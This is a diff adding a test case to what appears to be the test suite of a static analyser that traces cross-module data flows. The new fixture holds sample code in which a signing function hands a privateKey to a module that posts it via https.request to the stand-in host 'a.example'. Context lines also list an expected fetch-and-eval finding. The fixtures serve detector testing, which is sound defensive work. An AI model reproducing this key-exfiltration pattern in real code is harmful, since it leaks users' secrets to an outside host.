@@ -50,6 +50,16 @@ const joined: readonly (readonly [name: string, files: Readonly<Record<string, s
       },
       ['load index.js: download fetch 2 a.example → evaluation Function 1: run.js'],
     ],
+    [
+      'a signing key that another module sends',
+      {
+        'index.js':
+          "import { report } from './report.js'\nexport const sign = ({ privateKey }) => report({ privateKey, at: 1 })",
+        'report.js':
+          "import https from 'node:https'\nexport function report(record) { https.request({ hostname: 'a.example' }).end(JSON.stringify(record)) }",
+      },
+      ['call index.js: key-material privateKey 2 → network https.request 2 a.example: report.js'],
+    ],
   ]
 
 const silent: readonly (readonly [name: string, files: Readonly<Record<string, string>>])[] = [
